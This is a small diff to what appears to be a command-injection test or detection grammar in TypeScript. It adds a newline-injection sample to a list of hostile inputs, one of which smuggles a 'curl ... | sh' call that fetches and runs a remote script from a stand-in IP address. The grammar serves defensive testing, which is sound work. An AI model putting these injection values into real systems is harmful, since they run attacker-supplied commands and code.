@@ -18,6 +18,7 @@ export const COMMAND_GRAMMAR: readonly GrammarEntry[] = [
       '`id`',
       '127.0.0.1$(curl http://198.51.100.9/x.sh|sh)',
       '& ping -c 1 198.51.100.9 &',
+      'a\nid',
     ],
     innocent: [
       'ping pong; ball',
